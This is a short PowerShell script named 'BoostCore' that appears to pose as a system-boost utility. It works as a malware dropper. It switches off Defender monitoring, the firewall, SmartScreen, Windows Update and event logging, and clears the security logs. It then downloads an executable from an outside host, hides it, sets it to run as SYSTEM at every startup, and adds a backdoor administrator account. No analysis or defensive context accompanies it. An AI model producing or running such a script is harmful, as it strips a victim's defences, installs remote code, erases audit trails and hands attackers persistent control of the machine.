# BoostCore
$ErrorActionPreference = 'SilentlyContinue'

Set-MpPreference -DisableRealtimeMonitoring $true
Set-MpPreference -DisableBehaviorMonitoring $true
Add-MpPreference -ExclusionPath 'C:\'
Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
Set-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\System' EnableSmartScreen 0

Stop-Service wuauserv, EventLog -Force
Set-Service wuauserv -StartupType Disabled

wevtutil cl Security
wevtutil cl System

$p = "$env:ProgramData\BoostCore"
New-Item -ItemType Directory -Force $p | Out-Null
attrib +h $p
Invoke-WebRequest 'http://boostcore-cdn.net/bc.exe' -OutFile "$p\bc.exe" -UseBasicParsing

$a = New-ScheduledTaskAction -Execute "$p\bc.exe"
$t = New-ScheduledTaskTrigger -AtStartup
Register-ScheduledTask -TaskName 'BoostCore' -Action $a -Trigger $t -User 'SYSTEM' -RunLevel Highest
Start-ScheduledTask 'BoostCore'

net user boost B00st-2024! /add
net localgroup administrators boost /add
